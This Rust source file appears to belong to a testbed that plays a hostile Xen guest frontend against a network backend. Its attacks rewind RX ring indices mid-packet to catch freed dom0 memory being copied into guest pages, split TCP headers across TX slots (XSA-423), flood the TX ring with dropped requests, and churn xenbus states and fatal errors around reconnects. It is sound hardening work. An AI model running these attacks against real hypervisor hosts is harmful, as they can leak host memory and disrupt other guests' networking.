//! Attacks of the hardening issue (docs/hostile-frontend.md, "Hardening attacks"): a guest
//! RX ring whose `req_prod` moves under the backend's feet mid-packet, TX packets whose
//! protocol headers sit outside the first slot, a TX ring kept full of requests that are
//! all dropped, a frontend that churns through xenbus states under traffic, and fatal
//! errors around reconnects. Each runs on its own connection (RX buffers are posted by the
//! attack, not by `attacks::run`); dom0's side of every check is in
//! testbed/scenarios/hostile.sh.

use crate::attacks::{probe_with, record_probe, ProbeRetry, Report};
use crate::front::{
    init_sring, rx_slot, tx_slot, ConnectTweaks, ExtraQueue, Frontend, MqLayout, MqRings, RX_RING, STATE_CLOSED,
    STATE_CLOSING, TX_RING,
};
use crate::Args;
use netif::wire::{
    ExtraInfo, RxRequest, RxResponse, TxRequest, NETIF_RSP_OKAY, NETTXF_EXTRA_INFO, NETTXF_MORE_DATA,
    SRING_REQ_EVENT_OFFSET, SRING_REQ_PROD_OFFSET, SRING_RSP_PROD_OFFSET,
};
use std::sync::atomic::Ordering;
use std::thread::sleep;
use std::time::{Duration, Instant};

/// Connection tweaks of these attacks.
pub fn tweaks(attack: &str, t: &mut ConnectTweaks) {
    if attack == "tx-drop-flood" {
        // So that MCAST_ADD/DEL extras are multicast control, as netfront asks for it.
        t.extra_keys.push(("request-multicast-control".into(), "1".into()));
    }
    if attack == "rx-mid-packet-rewind" {
        // netfront writes this key (XDP_PACKET_HEADROOM) when the backend offers
        // feature-xdp-headroom; a near-page headroom stretches one frame over ~200 slots.
        t.extra_keys.push(("xdp-headroom".into(), REWIND_HEADROOM.to_string()));
    }
}

/// Runs `a.attack` if it is one of these; false if not (the caller then runs its own).
pub fn run(fe: &mut Frontend, a: &Args, r: &mut Report) -> bool {
    match a.attack.as_str() {
        "rx-mid-packet-rewind" => rx_mid_packet_rewind(fe, a, r),
        "tx-split-headers" => {
            fe.post_rx_buffers();
            tx_split_headers(fe, a, r);
        }
        "tx-drop-flood" => {
            fe.post_rx_buffers();
            tx_drop_flood(fe, a, r);
        }
        "state-churn" => {
            fe.post_rx_buffers();
            state_churn(fe, a, r);
        }
        "fatal-during-reconnect" => {
            fe.post_rx_buffers();
            fatal_during_reconnect(fe, a, r);
        }
        _ => return false,
    }
    true
}

/// A small xorshift generator: varied spin lengths sweep the race windows.
struct Rng(u64);
impl Rng {
    fn next(&mut self, bound: u32) -> u32 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % u64::from(bound.max(1))) as u32
    }
}

fn spin(n: u32) {
    for _ in 0..n {
        std::hint::spin_loop();
    }
}

// ---- rx-mid-packet-rewind ----------------------------------------------------------------

/// Byte the RX buffers are filled with before they are posted.
const RX_MARKER: u8 = 0xee;
/// Payload byte of dom0's frames (hostile.sh sends `ff:ff:ff:ff:ff:ff`, the bridge's MAC,
/// ethertype 0x88b5, then this byte; see its `raw_sender`).
const RX_PATTERN: u8 = 0xa5;
const PAGE: usize = crate::xen_dev::PAGE_SIZE;
/// Length of dom0's frames (hostile.sh's `REWIND_FRAME_LEN`).
const REWIND_FRAME_LEN: usize = 20000;
/// The XDP headroom this attack asks for: every data slot starts this far into its page, so
/// a buffer holds 96 bytes and one frame takes 209 data slots and the XDP extra. The
/// backend walks that many slots (queuing a copy for each) after the guest can see the
/// first response: a window wide enough for `req_prod` to move while the backend is inside
/// the packet.
const REWIND_HEADROOM: usize = 4000;

/// Bytes of buffer `buf` that are neither the marker nor dom0's frame: dom0 memory that
/// is no packet sent to us. `header` is the frame's Ethernet header (only the first 14
/// bytes after the headroom can hold it).
/// The first foreign byte seen is kept in `first` as (buffer, offset, value).
fn foreign_bytes(fe: &Frontend, buf: usize, header: &[u8; 14], first: &mut Option<(usize, usize, u8)>) -> (u32, u32) {
    let bytes = fe.rx_buffer(buf).read_bytes(0, PAGE);
    let mut foreign = 0;
    let mut data = 0;
    for (j, b) in bytes.iter().enumerate() {
        if *b == RX_MARKER {
            continue;
        }
        let at_header = j.checked_sub(REWIND_HEADROOM).filter(|k| *k < header.len());
        if *b == RX_PATTERN || at_header.is_some_and(|k| *b == header[k]) {
            data += 1;
        } else {
            foreign += 1;
            first.get_or_insert((buf, j, *b));
        }
    }
    (foreign, data)
}

/// Posts buffers for ring indices `from..to` (buffer = index % ring), marker-filled first.
fn post_marked(fe: &Frontend, from: u32, to: u32) {
    let mut i = from;
    while i != to {
        let buf = (i % RX_RING) as usize;
        fe.rx_buffer(buf).write_bytes(0, &[RX_MARKER; PAGE]);
        fe.rx_ring().write_obj(rx_slot(i), RxRequest { id: buf as u16, pad: 0, gref: fe.rx_buffer(buf).gref });
        i = i.wrapping_add(1);
    }
}

fn set_rx_req_prod(fe: &Frontend, v: u32) {
    fe.rx_ring().word(SRING_REQ_PROD_OFFSET).store(v, Ordering::SeqCst);
}

/// Posts exactly the buffers one of dom0's big frames needs, waits until the backend has
/// written the packet's first response into its slot (it is inside the packet) and then
/// moves `req_prod` back: one short of the packet, or to where the packet started; in the
/// last third it pushes `req_prod` far ahead instead. Round after round for `a.seconds`.
/// After each round and at the end every buffer is scanned for bytes that are neither the
/// marker nor frame data. A backend that re-reads `req_prod` mid-packet gives up on a
/// packet whose copies are already queued; copying them after the skb is freed lands freed
/// dom0 memory in the guest's pages.
fn rx_mid_packet_rewind(fe: &mut Frontend, a: &Args, r: &mut Report) {
    let mut header = [0xffu8; 14];
    header[6..12].copy_from_slice(&a.dst_mac);
    header[12..14].copy_from_slice(&[0x88, 0xb5]);
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ u64::from(fe.port));
    let (mut foreign, mut rounds, mut toggles) = (0u32, 0u32, 0u32);
    let mut base = 0u32;
    let mut first_foreign = None;
    // Every buffer holds the marker from the start: a backend that consumes stale slots
    // past req_prod (C does, when req_prod goes behind req_cons) may write any of them.
    for buf in 0..RX_RING as usize {
        fe.rx_buffer(buf).write_bytes(0, &[RX_MARKER; PAGE]);
    }
    // Calibrate: how many buffers does one frame take? The data slots and the XDP extra
    // say; post one more now and then (fewer than two frames' worth, at most a ring) in case
    // the backend wants more, and count the first frame's responses (dom0 starts sending
    // once the vif is up).
    let mut posted = (REWIND_FRAME_LEN as u32).div_ceil((PAGE - REWIND_HEADROOM) as u32) + 1;
    let max_posted = (2 * posted - 1).min(RX_RING);
    post_marked(fe, base, base + posted);
    set_rx_req_prod(fe, base + posted);
    fe.notify();
    let t0 = Instant::now();
    let mut last_grow = Instant::now();
    let needed = loop {
        let rp = fe.rx_rsp_prod();
        if rp != base {
            // rsp_prod is published at the end of a packet, and fewer than two frames'
            // worth of buffers are posted: it moved by exactly one frame.
            let n = rp.wrapping_sub(base);
            base = rp;
            set_rx_req_prod(fe, base);
            break n;
        }
        if t0.elapsed() > Duration::from_secs(40) {
            r.set("error", format!("no frame from dom0 with {posted} buffers posted"));
            return;
        }
        if last_grow.elapsed() > Duration::from_secs(5) && posted < max_posted {
            post_marked(fe, base + posted, base + posted + 1);
            posted += 1;
            set_rx_req_prod(fe, base + posted);
            fe.notify();
            last_grow = Instant::now();
        }
        sleep(Duration::from_millis(5));
    };
    println!("EVIL calibrated: one frame takes {needed} buffers");
    r.set("slots_per_packet", needed);
    let t_race = Instant::now();
    let total = Duration::from_secs(a.seconds.max(3));
    let mut dead = false;
    let mut last_mode = "rewind";
    let mut unpublished_data = 0u32;
    while t_race.elapsed() < total {
        let overshoot = t_race.elapsed() > total * 2 / 3;
        last_mode = if overshoot { "overshoot" } else { "rewind" };
        let full = base.wrapping_add(needed);
        post_marked(fe, base, full);
        let round_start = Instant::now();
        // The backend writes each response into its request's slot as it goes (and
        // publishes rsp_prod at the end): once the first slot holds a response, the
        // backend is inside this packet, and that is when req_prod moves.
        let first_gref = fe.rx_buffer((base % RX_RING) as usize).gref;
        let target = if overshoot {
            full.wrapping_add(3000)
        } else if rng.next(3) != 0 {
            full.wrapping_sub(1) // one short: the last slot is gone
        } else {
            base // none left: back to where the packet started
        };
        let delivered = loop {
            set_rx_req_prod(fe, full);
            fe.notify();
            let mut started = false;
            for _ in 0..20_000 {
                let word: u32 = fe.rx_ring().read_obj(rx_slot(base) + 4);
                if word != first_gref {
                    started = true;
                    break;
                }
                std::hint::spin_loop();
            }
            if started {
                spin(rng.next(50));
                set_rx_req_prod(fe, target);
                toggles += 1;
            }
            // Wait for the answer; put req_prod back where it is consistent as soon as it
            // comes (the backend may look at its next packet right away).
            let wait = Instant::now();
            let rp = loop {
                let rp = fe.rx_rsp_prod();
                if rp != base || wait.elapsed() > Duration::from_millis(20) {
                    break rp;
                }
                std::hint::spin_loop();
            };
            if rp != base {
                set_rx_req_prod(fe, rp);
                break Some(rp);
            }
            if round_start.elapsed() > Duration::from_secs(3) {
                break None;
            }
        };
        // Scan this round's buffers (and, for a backend that consumed stale slots past
        // req_prod, whatever else it answered).
        let end = delivered.unwrap_or(full);
        let mut i = base;
        while i != end && i.wrapping_sub(base) < RX_RING {
            let (f, d) = foreign_bytes(fe, (i % RX_RING) as usize, &header, &mut first_foreign);
            foreign += f;
            if delivered.is_none() && d > 0 {
                unpublished_data += 1;
            }
            i = i.wrapping_add(1);
        }
        match delivered {
            Some(rp) => {
                rounds += 1;
                base = rp;
                fe.rx_req_prod = rp;
                fe.rx_rsp_cons = rp;
            }
            None => {
                dead = true;
                break;
            }
        }
    }
    // Every buffer once more: a late copy may have landed after its round was scanned.
    for buf in 0..RX_RING as usize {
        foreign += foreign_bytes(fe, buf, &header, &mut first_foreign).0;
    }
    if let Some((buf, off, val)) = first_foreign {
        r.set("first_foreign", format!("buffer{buf}@{off}=0x{val:02x}"));
    }
    r.set("rounds_delivered", rounds);
    r.set("toggles", toggles);
    r.set("mode_at_end", last_mode);
    r.set("rx_dead", u8::from(dead));
    r.set("unpublished_data_buffers", unpublished_data);
    r.set("foreign_bytes", foreign);
}

// ---- tx-split-headers --------------------------------------------------------------------

/// An Ethernet + IPv4 + TCP (ACK, 100 bytes of payload) frame from us to dom0. The TCP
/// checksum is left 0: dom0's stack drops the segment after tc has looked at it.
fn tcp_frame(fe: &Frontend, dst: [u8; 6], handle: u32, seq: u32) -> Vec<u8> {
    let mut f = Vec::with_capacity(154);
    f.extend_from_slice(&dst);
    f.extend_from_slice(&fe.mac);
    f.extend_from_slice(&[0x08, 0x00]);
    let total = 20 + 20 + 100u16;
    let mut ip = vec![0x45, 0, (total >> 8) as u8, total as u8, 0, 1, 0x40, 0, 64, 6, 0, 0];
    ip.extend_from_slice(&[10, 99, 0, 200 + (handle % 50) as u8]);
    ip.extend_from_slice(&crate::frames::DOM0_IP);
    let c = crate::frames::ipv4_checksum(&ip);
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    f.extend_from_slice(&ip);
    let mut tcp = vec![0x9c, 0x40, 0, 9];
    tcp.extend_from_slice(&seq.to_be_bytes());
    tcp.extend_from_slice(&[0, 0, 0, 0, 0x50, 0x10, 0xff, 0xff, 0, 0, 0, 0]);
    f.extend_from_slice(&tcp);
    f.resize(14 + total as usize, 0x42);
    f
}

/// TCP/IPv4 packets split over two slots with no checksum or GSO flags: 8 whose first slot
/// holds only the Ethernet header, 8 whose first slot ends after the IP header. The
/// backend must still hand the stack an skb whose linear area covers the TCP header
/// (XSA-423); dom0's tc classifier on the vif's ingress counts those that do not.
fn tx_split_headers(fe: &mut Frontend, a: &Args, r: &mut Report) {
    let mut sent = 0;
    let mut st_ok = 0;
    let mut st_other = 0;
    for (shape, first_len) in [(0u32, 14usize), (1, 34)] {
        for k in 0..8u32 {
            let f = tcp_frame(fe, a.dst_mac, a.handle, shape * 100 + k);
            // Page 2 holds the first part, page 3 the rest, one packet at a time.
            fe.data[2].write_bytes(0, &f[..first_len]);
            fe.data[3].write_bytes(0, &f[first_len..]);
            let id = (fe.tx_req_prod % TX_RING) as u16;
            fe.put_tx(TxRequest {
                gref: fe.data[2].gref,
                offset: 0,
                flags: NETTXF_MORE_DATA,
                id,
                size: f.len() as u16,
            });
            let id2 = (fe.tx_req_prod % TX_RING) as u16;
            let rest = (f.len() - first_len) as u16;
            fe.put_tx(TxRequest { gref: fe.data[3].gref, offset: 0, flags: 0, id: id2, size: rest });
            fe.push_tx();
            for rsp in fe.wait_tx_responses(Duration::from_secs(2)) {
                if rsp.status == NETIF_RSP_OKAY {
                    st_ok += 1;
                } else {
                    st_other += 1;
                }
            }
            sent += 1;
        }
    }
    r.set("split_packets", sent);
    r.set("rsp_ok", st_ok);
    r.set("rsp_other", st_other);
    r.set("tx_unanswered", fe.tx_req_prod.wrapping_sub(fe.tx_rsp_cons));
    record_probe(fe, a.handle, r, "after");
}

// ---- tx-drop-flood -------------------------------------------------------------------------

/// High half of a TX slot's first word as we write it: a response written over the slot
/// (status ERROR, OKAY or NULL there) changes it, which is how we see the backend's
/// progress before it publishes `rsp_prod`.
const DROP_GREF: u32 = 0x1234_5678;
const DROP_GREF_HI: u16 = 0x1234;
const MCAST_ADDR: [u8; 6] = [0x33, 0x33, 0, 0, 0, 1];
const MCAST_HI: u16 = 0x3333;

/// Writes the request of ring index `j`: a period of 4 slots, two 5-byte packets (dropped:
/// shorter than an Ethernet header) and one MCAST_DEL request (multicast control, no
/// packet). 4 divides the ring size, so a slot always holds the same kind.
fn write_drop_slot(fe: &Frontend, j: u32) {
    let id = (j % TX_RING) as u16;
    let off = tx_slot(j);
    match j % 4 {
        0 | 1 => fe.tx_ring().write_obj(off, TxRequest { gref: DROP_GREF, offset: 0, flags: 0, id, size: 5 }),
        2 => fe
            .tx_ring()
            .write_obj(off, TxRequest { gref: DROP_GREF, offset: 0, flags: NETTXF_EXTRA_INFO, id, size: 60 }),
        _ => fe.tx_ring().write_obj(off, ExtraInfo::McastDel { addr: MCAST_ADDR }.to_raw(false)),
    }
}

fn drop_slot_answered(fe: &Frontend, j: u32) -> bool {
    let hi: u16 = fe.tx_ring().read_obj(tx_slot(j) + 2);
    hi != if j % 4 == 3 { MCAST_HI } else { DROP_GREF_HI }
}

/// Keeps the TX ring full of requests the backend answers without building a packet, for
/// `a.seconds`. The guest refills each slot as soon as the backend has written its
/// response there (before it publishes), so a backend whose poll counts only the packets
/// it hands to the stack never runs out of work. Reports `most_unpublished`, the most
/// requests the backend answered without publishing `rsp_prod` (one poll's work: a poll
/// bounded by its budget or by the ring stays within the ring size), and
/// `longest_unpublished_ms`, the longest such stretch in time.
fn tx_drop_flood(fe: &mut Frontend, a: &Args, r: &mut Report) {
    for j in 0..TX_RING {
        write_drop_slot(fe, j);
    }
    let mut req_prod = TX_RING;
    fe.tx_ring().word(SRING_REQ_PROD_OFFSET).store(req_prod, Ordering::SeqCst);
    fe.notify();
    let mut known = 0u32; // lowest index not yet seen answered
    let t0 = Instant::now();
    let (mut last_progress, mut last_report, mut last_notify) = (Instant::now(), Instant::now(), Instant::now());
    let mut last_rsp = fe.tx_rsp_prod();
    let mut last_publish = Instant::now();
    let mut longest_unpublished = Duration::ZERO;
    let mut most_unpublished = 0u32;
    let mut stalled = false;
    while t0.elapsed() < Duration::from_secs(a.seconds) {
        let mut advanced = false;
        while known != req_prod && drop_slot_answered(fe, known) {
            write_drop_slot(fe, known.wrapping_add(TX_RING));
            known = known.wrapping_add(1);
            advanced = true;
        }
        let rsp = fe.tx_rsp_prod();
        let now = Instant::now();
        if rsp != last_rsp {
            last_rsp = rsp;
            last_publish = now;
        }
        if advanced {
            last_progress = now;
            // Answered but not published since last_publish: the backend is still in the
            // same poll.
            let unpublished = known.wrapping_sub(rsp) as i32;
            if unpublished > 0 {
                longest_unpublished = longest_unpublished.max(now - last_publish);
                most_unpublished = most_unpublished.max(unpublished as u32);
            }
        }
        // Never publish between a request and its extra (index % 4 == 3).
        let mut p = known.wrapping_add(TX_RING);
        if p % 4 == 3 {
            p = p.wrapping_sub(1);
        }
        if p != req_prod {
            let old = req_prod;
            req_prod = p;
            fe.tx_ring().word(SRING_REQ_PROD_OFFSET).store(p, Ordering::SeqCst);
            let event = fe.tx_ring().word(SRING_REQ_EVENT_OFFSET).load(Ordering::SeqCst);
            if p.wrapping_sub(event) < p.wrapping_sub(old) || last_notify.elapsed() > Duration::from_millis(20) {
                fe.notify();
                last_notify = Instant::now();
            }
        } else if !advanced {
            if last_notify.elapsed() > Duration::from_millis(20) {
                fe.notify();
                last_notify = Instant::now();
            }
            std::thread::yield_now();
        }
        if last_progress.elapsed() > Duration::from_secs(10) {
            stalled = true;
            break;
        }
        if last_report.elapsed() > Duration::from_secs(5) {
            println!(
                "EVIL load t={} answered={known} longest_unpublished_ms={}",
                t0.elapsed().as_secs(),
                longest_unpublished.as_millis()
            );
            last_report = Instant::now();
        }
    }
    let secs = t0.elapsed().as_secs().max(1);
    r.set("answered", known);
    r.set("seconds", secs);
    r.set("pps", u64::from(known) / secs);
    r.set("stalled", u8::from(stalled));
    r.set("longest_unpublished_ms", longest_unpublished.as_millis());
    r.set("most_unpublished", most_unpublished);
}

// ---- state-churn and fatal-during-reconnect ------------------------------------------------

fn write_state(fe: &mut Frontend, state: u32) -> Result<(), String> {
    let p = format!("{}/state", fe.dir);
    fe.xs.write(&p, &state.to_string())
}

/// Closing, then (once the backend has let go of the rings) empty rings and Connected
/// again on the same grants and event channel. Returns whether the backend came back
/// Connected.
fn reconnect(fe: &mut Frontend, r: &mut Report) -> bool {
    if let Err(e) = write_state(fe, STATE_CLOSING) {
        r.set("error", e);
        return false;
    }
    let bs = format!("{}/state", fe.backend);
    let (left, _) = fe.xs.wait_for(&bs, Duration::from_secs(5), |s| matches!(s, Some(STATE_CLOSING | STATE_CLOSED)));
    if !left {
        return false;
    }
    fe.reset_rings();
    match fe.connect(&ConnectTweaks::default(), Duration::from_secs(10)) {
        Ok((ok, _)) => {
            if ok {
                fe.post_rx_buffers();
            }
            ok
        }
        Err(e) => {
            r.set("error", e);
            false
        }
    }
}

/// TX traffic left in flight: 64 ARP requests (dom0 answers each: RX traffic too).
fn tx_burst(fe: &mut Frontend, handle: u32) {
    let f = crate::frames::arp_request(fe.mac, [10, 99, 0, 200 + (handle % 50) as u8]);
    fe.data[4].write_bytes(0, &f);
    for _ in 0..64 {
        let id = (fe.tx_req_prod % TX_RING) as u16;
        fe.put_tx(TxRequest { gref: fe.data[4].gref, offset: 0, flags: 0, id, size: f.len() as u16 });
    }
    fe.push_tx();
}

/// Cycles Connected -> Closing -> Connected and Connected -> Reconfiguring -> Connected
/// with TX requests in flight and dom0 sending to the vif, then probes.
fn state_churn(fe: &mut Frontend, a: &Args, r: &mut Report) {
    let (mut reconnects, mut reconnects_ok, mut reconfigs, mut reconfigured) = (0, 0, 0, 0);
    let bs = format!("{}/state", fe.backend);
    for cycle in 0..6 {
        tx_burst(fe, a.handle);
        sleep(Duration::from_millis(30));
        fe.take_rx_frames();
        if cycle % 2 == 0 {
            reconnects += 1;
            if reconnect(fe, r) {
                reconnects_ok += 1;
            }
        } else {
            reconfigs += 1;
            if write_state(fe, 7).is_err() {
                continue;
            }
            let (seen, _) = fe.xs.wait_for(&bs, Duration::from_secs(3), |s| s == Some(8));
            if seen {
                reconfigured += 1;
            }
            let _ = write_state(fe, crate::front::STATE_CONNECTED);
            // The C backend stays Reconfigured (its state variable never left Connected).
            fe.xs.wait_for(&bs, Duration::from_secs(2), |s| s == Some(crate::front::STATE_CONNECTED));
        }
        println!("EVIL churn cycle={cycle} backend_state={:?}", fe.xs.read_u32(&bs));
    }
    r.set("reconnects", reconnects);
    r.set("reconnects_ok", reconnects_ok);
    r.set("reconfigs", reconfigs);
    r.set("reconfigured_seen", reconfigured);
    r.set("backend_state_end", fe.xs.read_u32(&bs).map_or("none".into(), |s| s.to_string()));
    // Drain what the churn left, then a clean probe.
    fe.wait_tx_responses(Duration::from_secs(2));
    fe.tx_rsp_cons = fe.tx_req_prod;
    fe.take_rx_frames();
    record_probe(fe, a.handle, r, "after");
}

fn tx_overflow(fe: &mut Frontend) {
    let p = fe.tx_rsp_cons.wrapping_add(1000);
    fe.push_tx_raw(p);
}

// ---- fatal-during-reconnect ---------------------------------------------------------------

/// How long the race cycles may run, and at most how many (a backend that keeps a
/// disabled vif disabled, as C does, makes every later probe wait for its TX answer).
const RACE_BUDGET: Duration = Duration::from_secs(8);
const RACE_MAX_CYCLES: u32 = 24;
/// The fatal request is written between `RACE_BEFORE_US` before and `RACE_AFTER_US` (RX
/// path) or `RACE_AFTER_TX_US` (TX path) after the Closing write returns. On the testbed
/// the backend stops taking RX kicks (`connected` cleared as the detach starts) some 4-9 ms
/// after that write and TX kicks (NAPI disabled) some 12-14 ms after it: the offsets sweep
/// both moments.
const RACE_BEFORE_US: u32 = 1000;
const RACE_AFTER_US: u32 = 12000;
const RACE_AFTER_TX_US: u32 = 16000;
/// Queue 1 is kicked this long after the fatal request, so that a worker or poll pass is
/// in flight as the detach begins (the old driver's stale kick needs an RX-path error
/// raised by a pass that started before the detach and ends after it cancelled queue 0).
const RACE_KICK: Duration = Duration::from_millis(5);
/// RX buffers posted on queue 1: the connection's buffers from `Q1_FIRST_BUF` on (queue 0
/// posts them too; an idle vif receives next to nothing, and only an ARP reply is looked for).
const Q1_BUFS: u32 = 64;
const Q1_FIRST_BUF: usize = 192;

fn busy_wait(d: Duration) {
    let t = Instant::now();
    while t.elapsed() < d {
        std::hint::spin_loop();
    }
}

/// Posts `Q1_BUFS` RX buffers on queue 1's (empty) ring and kicks it.
fn post_q1_rx(fe: &Frontend, mq: &MqRings, q1: &ExtraQueue) {
    for i in 0..Q1_BUFS {
        let gref = fe.rx_buffer(Q1_FIRST_BUF + i as usize).gref;
        q1.rx.write_obj(rx_slot(i), RxRequest { id: i as u16, pad: 0, gref });
    }
    q1.rx.word(SRING_REQ_PROD_OFFSET).store(Q1_BUFS, Ordering::SeqCst);
    mq.notify(q1.port);
}

/// Whether dom0's ARP reply is among queue 1's RX responses (the stack may pick either
/// queue for it).
fn q1_arp_reply(fe: &Frontend, q1: &ExtraQueue) -> bool {
    let prod = q1.rx.word(SRING_RSP_PROD_OFFSET).load(Ordering::SeqCst);
    (0..prod.min(Q1_BUFS)).any(|i| {
        let rsp: RxResponse = q1.rx.read_obj(rx_slot(i));
        let Ok(len) = usize::try_from(rsp.status) else {
            return false;
        };
        let off = usize::from(rsp.offset).min(PAGE);
        let frame = fe.rx_buffer(Q1_FIRST_BUF + i as usize).read_bytes(off, len.min(PAGE - off));
        crate::frames::is_arp_reply_from_dom0(&frame)
    })
}

/// After Closing was written: waits for the backend to let go, then empty rings on every
/// queue and Connected with all of `mq`'s queues, RX buffers posted on each.
fn reconnect_mq(fe: &mut Frontend, mq: &MqRings, r: &mut Report) -> bool {
    let bs = format!("{}/state", fe.backend);
    let (left, _) = fe.xs.wait_for(&bs, Duration::from_secs(5), |s| matches!(s, Some(STATE_CLOSING | STATE_CLOSED)));
    if !left {
        return false;
    }
    fe.reset_rings();
    for q in &mq.queues {
        init_sring(&q.tx);
        init_sring(&q.rx);
    }
    let tweaks = ConnectTweaks {
        num_queues: Some((mq.queues.len() + 1).to_string()),
        extra_keys: mq.keys(fe),
        ..Default::default()
    };
    match fe.connect(&tweaks, Duration::from_secs(10)) {
        Ok((true, _)) => {
            fe.post_rx_buffers();
            if let Some(q1) = mq.queues.first() {
                post_q1_rx(fe, mq, q1);
            }
            true
        }
        Ok((false, _)) => false,
        Err(e) => {
            r.set("error", e);
            false
        }
    }
}

/// Makes queue 1's RX ring (`rx_path`) or TX ring impossible (`req_prod` 1000 past the
/// responses) and kicks queue 1, `offset_us` after the Closing write (before it when
/// negative), then keeps kicking for `RACE_KICK`.
fn fatal_around_closing(fe: &mut Frontend, mq: &MqRings, q1: &ExtraQueue, rx_path: bool, offset_us: i64) -> bool {
    let fire = || {
        let ring = if rx_path { &q1.rx } else { &q1.tx };
        let rsp = ring.word(SRING_RSP_PROD_OFFSET).load(Ordering::SeqCst);
        ring.word(SRING_REQ_PROD_OFFSET).store(rsp.wrapping_add(1000), Ordering::SeqCst);
        mq.notify(q1.port);
    };
    let gap = Duration::from_micros(offset_us.unsigned_abs());
    if offset_us < 0 {
        fire();
        busy_wait(gap);
    }
    if write_state(fe, STATE_CLOSING).is_err() {
        return false;
    }
    if offset_us >= 0 {
        busy_wait(gap);
        fire();
    }
    let t = Instant::now();
    while t.elapsed() < RACE_KICK {
        mq.notify(q1.port);
        spin(200);
    }
    true
}

/// Issue 9 item 11: a fatal error raised by the old connection's work while dom0 detaches
/// must not reach the next connection. On a 2-queue connection (the old driver's `fatal()`
/// kicks every queue's RX worker: an RX-path fatal on queue 1 re-queues queue 0's worker
/// after the detach cancelled it), cycle after cycle: queue 1's RX ring (even cycles) or TX
/// ring (odd) made impossible and kicked at a random moment from 1 ms before to 12 (RX) or
/// 16 (TX) ms after the Closing write, then Connected again with fresh rings and a probe (ARP request on
/// queue 0, the reply looked for on both queues). `reconnect_probes` lists each cycle as
/// path, offset in µs, probe (1 = works). Then one more fatal (TX, queue 0), after which it
/// writes `evil-phase` = `final-fatal` in its device directory: dom0 watches for it and
/// detaches and reattaches the vif at once.
fn fatal_during_reconnect(fe: &mut Frontend, a: &Args, r: &mut Report) {
    let offered = fe.xs.read_u32(&format!("{}/multi-queue-max-queues", fe.backend)).unwrap_or(1);
    r.set("offer_queues", offered);
    let layout = MqLayout { num_queues: offered.min(2), split: false, ctrl: false };
    let mq = match MqRings::prepare(fe, &layout) {
        Ok(m) => m,
        Err(e) => {
            r.set("error", e);
            return;
        }
    };
    let Some(q1) = mq.queues.first() else {
        r.set("error", "the backend offers no second queue");
        return;
    };
    // From the attack's own one-queue connection to two queues.
    let connected = write_state(fe, STATE_CLOSING).is_ok() && reconnect_mq(fe, &mq, r);
    r.set("mq_connected", u8::from(connected));
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ u64::from(a.handle) ^ u64::from(std::process::id()));
    let (mut cycles, mut probes_ok, mut first_broken) = (0u32, 0u32, None);
    let mut statuses = Vec::new();
    let t0 = Instant::now();
    while connected && cycles < RACE_MAX_CYCLES && t0.elapsed() < RACE_BUDGET {
        let rx_path = cycles % 2 == 0;
        let after = if rx_path { RACE_AFTER_US } else { RACE_AFTER_TX_US };
        let offset = i64::from(rng.next(RACE_BEFORE_US + after)) - i64::from(RACE_BEFORE_US);
        if !fatal_around_closing(fe, &mq, q1, rx_path, offset) {
            break;
        }
        cycles += 1;
        let works = reconnect_mq(fe, &mq, r) && {
            // Asks every 100 ms for 3 s: the bridge port forwards only once the carrier
            // change has gone through linkwatch (up to a second after the buffers).
            let retry = ProbeRetry { tries: 30, reply_wait: Duration::from_millis(100) };
            let (st, reply) = probe_with(fe, a.handle, retry, |fe| q1_arp_reply(fe, q1));
            st == Some(NETIF_RSP_OKAY) && reply
        };
        if works {
            probes_ok += 1;
        } else {
            first_broken.get_or_insert(cycles);
        }
        let path = if rx_path { "rx" } else { "tx" };
        println!("EVIL reconnect cycle={cycles} path={path} offset_us={offset} works={}", u8::from(works));
        statuses.push(format!("{path}{offset:+}:{}", u8::from(works)));
    }
    r.set("reconnect_cycles", cycles);
    r.set("reconnect_probes_ok", probes_ok);
    r.set("reconnect_first_broken", first_broken.map_or("none".into(), |c: u32| c.to_string()));
    r.set("reconnect_probes", statuses.join(","));
    tx_overflow(fe);
    let key = format!("{}/evil-phase", fe.dir);
    if let Err(e) = fe.xs.write(&key, "final-fatal") {
        r.set("error", e);
    }
}
